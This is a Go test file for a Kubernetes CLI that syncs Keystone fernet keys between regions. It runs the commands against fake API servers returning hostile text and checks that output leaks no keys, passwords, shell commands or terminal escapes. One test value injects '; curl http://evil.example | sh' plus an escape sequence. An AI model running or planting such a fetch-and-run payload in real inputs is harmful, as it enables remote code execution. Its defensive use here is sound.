package cli

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/fernetcast/fernetcast/internal/mirror"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	kubernetes "k8s.io/apimachinery/pkg/version"
)

// foreignKey is a key of another region, so no key set that a command reads contains it.
const foreignKey = "Vq3xL0_tYd8Kf2ZrW7bN-c5HsPm1JgQe9UaXi6ToRyA="

// A stranger is an API server that writes text into each string of each response. Only the
// fields that a command needs to continue are valid.
type stranger struct {
	*httptest.Server
	text  string
	home  bool // the server plays the main region's API server
	fails bool // the server answers every request with a failure Status
}

func newStranger(t *testing.T, s *stranger) *stranger {
	s.Server = httptest.NewTLSServer(s)
	t.Cleanup(s.Close)
	return s
}

// fill sets each string in v to text, and gives each list one element.
func fill(v reflect.Value, text string, depth int) {
	switch {
	case depth > 6 || !v.CanSet():
	case v.Kind() == reflect.String:
		v.SetString(text)
	case v.Kind() == reflect.Struct && v.Type().PkgPath() != "time":
		for i := range v.NumField() {
			fill(v.Field(i), text, depth+1)
		}
	case v.Kind() == reflect.Slice && v.Type().Elem().Kind() != reflect.Uint8:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		fill(v.Index(0), text, depth+1)
	}
}

func (s *stranger) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	var object any
	path := req.URL.Path
	switch {
	case s.fails:
		object = &metav1.Status{}
	case strings.Contains(path, "/secrets"):
		w.Header().Set("Content-Type", "application/vnd.kubernetes.protobuf")
		_, _ = w.Write(encoded(s.secret(path[strings.LastIndex(path, "/")+1:])))
		return
	case path == "/version":
		object = &kubernetes.Info{}
	case strings.HasSuffix(path, "/selfsubjectreviews"):
		object = &authenticationv1.SelfSubjectReview{}
	case strings.HasSuffix(path, "/selfsubjectrulesreviews"):
		object = &authorizationv1.SelfSubjectRulesReview{}
	case strings.HasSuffix(path, "/jobs"):
		object = &batchv1.JobList{}
	case strings.Contains(path, "/cronjobs"):
		object = &batchv1.CronJobList{}
	case strings.Contains(path, "/configmaps"):
		object = &corev1.ConfigMap{Data: map[string]string{"kubeconfig": `{"clusters": [{"name": "c", "cluster": {"server": ` + fmt.Sprintf("%q", "https://u:"+s.text+"@host") + `}}]}`}}
	case strings.HasSuffix(path, "/token"):
		object = &authenticationv1.TokenRequest{}
	case strings.Contains(path, "/rolebindings"):
		object = &rbacv1.RoleBindingList{}
	case strings.Contains(path, "/serviceaccounts"):
		object = &corev1.ServiceAccount{}
	case strings.HasPrefix(path, "/.well-known"):
		object = &map[string]string{"issuer": "https://" + s.text, "jwks_uri": "https://" + s.text}
	default:
		object = &corev1.Namespace{}
	}
	fill(reflect.ValueOf(object).Elem(), s.text, 0)
	w.Header().Set("Content-Type", "application/json")
	switch o := object.(type) {
	case *metav1.Status:
		o.Kind, o.Status, o.Code = "Status", metav1.StatusFailure, http.StatusForbidden
		w.Header().Set("Warning", `299 - "`+strings.ReplaceAll(s.text, "\x1b", "")+`"`)
		w.WriteHeader(http.StatusForbidden)
	case *batchv1.JobList:
		o.Items[0].OwnerReferences[0].Controller, o.Items[0].OwnerReferences[0].Name = new(true), "keystone-fernet-rotate"
	case *corev1.Namespace:
		if s.home {
			o.UID = "home"
		}
	}
	data, _ := json.Marshal(object)
	_, _ = w.Write(data)
}

// secret returns the source, the remotes' kubeconfigs, or a copy.
func (s *stranger) secret(name string) *corev1.Secret {
	secret := &corev1.Secret{}
	fill(reflect.ValueOf(secret).Elem(), s.text, 0)
	now := metav1.NewTime(time.Now())
	secret.ManagedFields = []metav1.ManagedFieldsEntry{{Manager: s.text, Operation: "Update", Time: &now}}
	secret.Name, secret.Namespace, secret.OwnerReferences, secret.Finalizers = name, "openstack", nil, nil
	secret.UID, secret.Data = "remote-uid", map[string][]byte{"0": fernetKey(1), "1": fernetKey(2)}
	secret.Annotations = map[string]string{
		mirror.StampRegion: strings.TrimRight(foreignKey, "="), mirror.StampTerm: "9", mirror.StampUID: s.text, mirror.StampVersion: s.text, mirror.StampKeys: s.text,
	}
	if !s.home {
		return secret
	}
	secret.UID, secret.Type = "home-uid", corev1.SecretTypeOpaque
	secret.Annotations = map[string]string{mirror.MarkRegion: "sjc", mirror.MarkTerm: "3", mirror.MarkUID: "home-uid"}
	return secret
}

// kubeconfigs writes a kubeconfig with a context for each server, and a directory with a kubeconfig
// for the remote.
func kubeconfigs(t *testing.T, home, remote *stranger) (path, dir string) {
	t.Helper()
	entry := func(name string, s *stranger) (cluster, context string) {
		ca := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw}))
		return fmt.Sprintf(`{"name": %q, "cluster": {"server": %q, "certificate-authority-data": %q}}`, name, s.URL, ca),
			fmt.Sprintf(`{"name": %q, "context": {"cluster": %q, "user": "u"}}`, name, name)
	}
	write := func(path, current string, clusters, contexts []string) {
		text := fmt.Sprintf(`{"current-context": %q, "clusters": [%s], "contexts": [%s], "users": [{"name": "u", "user": {"token": "t"}}]}`,
			current, strings.Join(clusters, ","), strings.Join(contexts, ","))
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	path, dir = filepath.Join(t.TempDir(), "config"), t.TempDir()
	homeCluster, homeContext := entry("home", home)
	cluster, context := entry("dfw", remote)
	write(path, "home", []string{homeCluster, cluster}, []string{homeContext, context})
	write(filepath.Join(dir, "dfw.yaml"), "dfw", []string{cluster}, []string{context})
	return path, dir
}

// No output of a command contains a key, a shell command, or a control sequence from a server.
// Text that Kubernetes would accept as a name is shown unless it could be a key.
func TestServersTextIsNotShown(t *testing.T) {
	for what, text := range map[string]string{
		"a key": foreignKey, "a name": strings.TrimRight(foreignKey, "="), "a command": "; curl http://evil.example | sh\x1b]0;owned\x07",
	} {
		for _, fails := range []bool{false, true} {
			home := newStranger(t, &stranger{text: text, home: true})
			remote := newStranger(t, &stranger{text: text, fails: fails})
			path, dir := kubeconfigs(t, home, remote)
			t.Setenv("KUBECONFIG", path)
			for _, args := range []string{
				"status", "status -o wide", "status -o json", "check", "check -o json", "check --remote-context dfw", "push", "wait --timeout 1s",
				"promote lon --dry-run --force", "recover --from dfw --yes --force", "renew --all --self", "run --listen= --log-level debug",
				"join dfw --remote-context dfw --yes --server https://dfw.example.invalid", "join dfw --remote-context dfw --yes", "join dfw --remote-context dfw -o yaml --server " + remote.URL,
				"join dfw --remote-context dfw --yes --keyless -o config", "leave dfw --remote-context dfw --yes",
			} {
				fields := strings.Fields(args)
				if verb := fields[0]; verb != "join" && verb != "leave" {
					fields = append(fields, "--clusters", dir)
				}
				ctx, cancel := context.WithTimeout(t.Context(), time.Second)
				var out bytes.Buffer
				execute(ctx, call{"fernetcast", fields}, strings.NewReader(""), &out, &out)
				cancel()
				for _, bad := range []string{foreignKey[:12], foreignKey[20:32], "curl http", "evil.example |", "\x1b", "\x07"} {
					if strings.Contains(out.String(), bad) {
						t.Errorf("%s from a server (failing: %v): %s shows %q:\n%s", what, fails, args, bad, out.String())
					}
				}
			}
		}
	}
}

// Passwords in addresses are neither accepted nor shown.
func TestNoPasswordInAddresses(t *testing.T) {
	const secret = "hunter2"
	home := newStranger(t, &stranger{text: "x", home: true})
	path, _ := kubeconfigs(t, home, home)
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	bad := func(old, now string) string {
		changed := filepath.Join(t.TempDir(), "config")
		if err := os.WriteFile(changed, []byte(strings.ReplaceAll(string(text), old, now)), 0o600); err != nil {
			t.Fatal(err)
		}
		return " --remote-kubeconfig " + changed
	}
	server := bad(`"server": "https://`, `"server": "https://user:`+secret+`@`)
	proxy := bad(`"server": `, `"proxy-url": "htp://user:`+secret+`@proxy", "server": `)
	unparsed := bad(`"server": `, `"proxy-url": "http://user:`+secret+`@proxy:port", "server": `)
	usable := bad(`"server": `, `"proxy-url": "http://user:`+secret+`@127.0.0.1:1", "server": `)
	t.Setenv("KUBECONFIG", path)
	const join = "join dfw --remote-context dfw --from sjc --yes"
	for _, args := range []string{
		join + " --server https://user:" + secret + "@dfw.example.com", join + " --server https://dfw.example.com?token=" + secret, join + " --server https://dfw.example.com#" + secret,
		join + " --server user:" + secret + "@dfw.example.com:6443", join + " --keyless --at https://user:" + secret + "@keys.example.com",
		join + server, join + proxy, join + unparsed, "check --remote-context dfw" + server, "check --remote-context dfw" + proxy, "leave dfw --yes --remote-context dfw" + server,
		"renew dfw --remote-context dfw" + server, "status --kubeconfig" + strings.TrimPrefix(proxy, " --remote-kubeconfig"), "status --kubeconfig" + strings.TrimPrefix(server, " --remote-kubeconfig"),
		join + " -o yaml --server https://dfw.example.com" + usable, "check --remote-context dfw" + usable,
	} {
		var out bytes.Buffer
		code := execute(t.Context(), call{"fernetcast", strings.Fields(args)}, strings.NewReader(""), &out, &out)
		if strings.Contains(out.String(), secret) || code == exitOK {
			t.Errorf("%s: exit code %d\n%s", args, code, out.String())
		}
	}
}
